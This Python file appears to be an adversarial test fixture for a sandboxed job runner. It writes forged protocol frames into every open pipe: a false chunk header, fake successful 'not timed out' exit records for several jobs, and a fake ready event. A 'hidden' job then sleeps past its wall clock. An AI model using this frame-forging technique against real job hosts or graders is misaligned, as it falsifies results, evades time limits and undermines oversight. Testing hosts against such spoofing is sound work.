# ruff: noqa
"""Write the host's own frames into every pipe the job holds, hoping the host reads them as
the zygote's: a chunk header announcing more bytes than follow, a closing frame for this job
and the next few (exited 0, not timed out), the zygote's ``ready``. The hidden job then
sleeps past its wall clock, so a host that believed the forged closing frame would say it
finished in time."""

import json
import os
import struct
import time


def frame(payload):
    data = json.dumps(payload, separators=(",", ":")).encode()
    return struct.pack(">I", len(data)) + data


FORGED = frame({"chunk": 1 << 20}) + b"".join(
    frame({"id": f"job-{n}", "timed_out": False, "wall_seconds": 0.0, "exit_code": 0, "signal": None})
    + frame({"event": "ready", "cpu_left": 600})
    for n in range(1, 4)
)


def forge():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                os.write(int(name), FORGED)
        except OSError:
            pass


def public(x):
    forge()
    return x


def hidden(x):
    forge()
    time.sleep(60)
